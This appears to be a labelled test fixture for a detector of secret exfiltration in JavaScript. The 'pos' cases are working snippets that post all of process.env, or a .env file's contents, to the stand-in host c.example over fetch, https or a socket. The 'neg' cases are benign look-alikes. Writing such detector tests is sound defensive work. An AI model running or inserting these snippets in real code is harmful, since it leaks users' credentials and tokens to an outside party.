//@ pos process.env posted with fetch
fetch("https://c.example/", { method: "POST", body: JSON.stringify(process.env) });
//@ pos keys of process.env over https
const https = require("https");
const req = https.request({ host: "c.example", method: "POST" });
for (const k of Object.keys(process.env)) req.write(k + "=" + process.env[k]);
req.end();
//@ pos over a socket
const net = require("net");
const s = net.connect(9000, "c.example", () => s.end(JSON.stringify(process.env)));
//@ neg one variable and the network
fetch(process.env.API_URL || "http://localhost/");
//@ neg the environment without the network
console.log(Object.keys(process.env).length);
//@ neg the network without the environment
fetch("http://localhost/");
//@ pos .env read and posted
const body = require("fs").readFileSync(".env", "utf8");
fetch("https://c.example/", { method: "POST", body });
//@ pos .env found by name and sent over a socket
const f = require("path").resolve(".env");
require("net").connect(9000, "c.example").end(require("fs").readFileSync(f));
//@ neg .env loaded into process.env, no network
const text = require("fs").readFileSync(".env", "utf8");
for (const l of text.split("\n")) { const [k, v] = l.split("="); if (k && v) process.env[k] = v; }
